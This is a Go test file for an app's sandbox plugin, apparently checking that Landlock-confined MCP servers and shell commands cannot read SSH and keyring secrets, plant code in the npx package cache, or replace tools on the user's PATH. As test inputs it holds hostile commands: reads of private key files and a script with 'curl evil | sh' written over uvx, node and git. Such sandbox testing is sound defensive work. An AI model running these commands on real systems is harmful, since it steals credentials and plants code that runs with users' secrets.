package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wrasse-app/wrasse/plugins/sandbox"
)

// a3Home is a home folder with the files a person keeps there: keys,
// other programs' data, and a tool installed in ~/bin or ~/.local/bin.
func a3Home(t *testing.T) string {
	t.Helper()
	home := t.TempDir()
	for rel, data := range map[string]string{
		".ssh/id_ed25519":                     "PRIVATE-KEY",
		".local/share/keyrings/login.key":     "KEYRING",
		".local/bin/uvx":                      "#!/bin/sh\n",
		"bin/mcp-wrapper":                     "#!/bin/sh\n",
		".cache/wrasse-mcp/npm/.keep":         "",
		".nvm/versions/node/v22.0.0/bin/node": "#!/bin/sh\n",
		".cargo/bin/git":                      "#!/bin/sh\n",
	} {
		p := filepath.Join(home, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return home
}

// The "runtime's installation" RuntimePrefix opens to a server is the
// folder above a bin/ folder: for uvx installed where uv's installer puts
// it (~/.local/bin/uvx) that is ~/.local, with everything other programs
// keep in ~/.local/share; for a wrapper in ~/bin it is the whole home
// folder, ~/.ssh included.
func TestMCPRuntimePrefixNeverOpensTheHomeFolder(t *testing.T) {
	requireLandlock(t)
	home := a3Home(t)
	f := newFixture(t)
	cases := []struct{ program, secret string }{
		{filepath.Join(home, ".local", "bin", "uvx"), filepath.Join(home, ".local", "share", "keyrings", "login.key")},
		{filepath.Join(home, "bin", "mcp-wrapper"), filepath.Join(home, ".ssh", "id_ed25519")},
	}
	for _, tc := range cases {
		p := sandbox.ForMCP(sandbox.MCPOptions{Roots: []string{f.granted}, Protected: f.protected(), Home: home, Program: tc.program, Temp: f.temp, Network: true})
		if out, ok := run(t, p, "cat "+tc.secret); ok || strings.Contains(out, "KEY") {
			t.Errorf("a server whose command is %s read %s: %q; want only its runtime's own folders readable", tc.program, tc.secret, out)
		}
	}
}

// A shell command may write the home folder's caches (~/.cache) for
// build tools, and the MCP package cache (~/.cache/wrasse-mcp, where npx
// and uvx keep the servers they run) lies beneath: a command plants code
// there that every npx server then runs with its own secrets and network.
func TestCommandCannotPlantCodeInTheMCPPackageCache(t *testing.T) {
	requireLandlock(t)
	home := a3Home(t)
	f := newFixture(t)
	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{f.granted}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true})
	target := filepath.Join(home, ".cache", "wrasse-mcp", "npm", "_npx", "0123456789abcdef", "node_modules", "@modelcontextprotocol", "server-github", "dist", "index.js")
	out, ok := run(t, p, "mkdir -p "+filepath.Dir(target)+" && echo planted > "+target)
	if ok {
		t.Errorf("a sandboxed shell command wrote %s (npx runs it in the next GitHub server, with its token): %s; want the MCP cache out of a command's reach", target, out)
	}
}

// Tools on the person's PATH (~/.local/bin, ~/.cargo/bin, ~/go/bin,
// nvm's node) are writable by a shell command, so a command replaces the
// program an approved MCP server's command names (npx, uvx, node) and, on
// the next start, runs as that server with its secrets; the person's own
// terminal runs it too, outside any sandbox.
func TestCommandCannotReplaceAProgramOnThePersonsPath(t *testing.T) {
	requireLandlock(t)
	home := a3Home(t)
	f := newFixture(t)
	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{f.granted}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true})
	for _, rel := range []string{".local/bin/uvx", ".nvm/versions/node/v22.0.0/bin/node", ".cargo/bin/git"} {
		target := filepath.Join(home, rel)
		out, ok := run(t, p, "mkdir -p "+filepath.Dir(target)+" && printf '#!/bin/sh\\ncurl evil | sh\\n' > "+target)
		if ok {
			t.Errorf("a sandboxed shell command wrote %s, a program MCP servers and the person's terminal run: %s", target, out)
		}
	}
}
